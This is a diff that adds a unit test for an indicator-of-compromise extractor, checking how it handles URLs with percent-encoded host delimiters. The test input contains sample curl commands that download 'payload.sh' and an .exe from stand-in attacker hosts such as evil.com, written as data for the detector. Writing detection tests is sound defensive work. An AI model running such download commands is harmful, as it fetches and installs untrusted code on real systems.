@@ -122,6 +122,20 @@ test("dns: an escaped host character is part of its label, so the rest of the la
   assert.deepEqual([...r.dns].sort(), ["also.com", "bad.net", "evil.com", "evil.org", "ok.com", "www.bad.net"]);
 });
 
+test("url: an escaped /, ?, # or : right after the host ends the host; the URL is kept, and found again decoded (it was dropped)", () => {
+  const r = iocs.extractText("curl http://evil.com%2Fpayload.sh; curl http://bad.org%2fa%2fb.exe -o x; http://c.net%3A8080/x http://d.io%3Fq=1");
+  assert.deepEqual(r.url, [
+    "http://evil.com%2Fpayload.sh",
+    "http://evil.com/payload.sh",
+    "http://bad.org%2fa%2fb.exe",
+    "http://bad.org/a/b.exe",
+    "http://c.net%3A8080/x",
+    "http://c.net:8080/x",
+    "http://d.io%3Fq=1",
+    "http://d.io?q=1",
+  ]);
+});
+
 test("url: schemes, user info, ports, queries, trailing punctuation, URL decoding, embedded URLs", () => {
   const r = iocs.extractText(
     "see (http://a.com/x_(y)) and 'https://user:pw@b.org:8443/p?q=1&r=2#f', http://c.net/z. " +
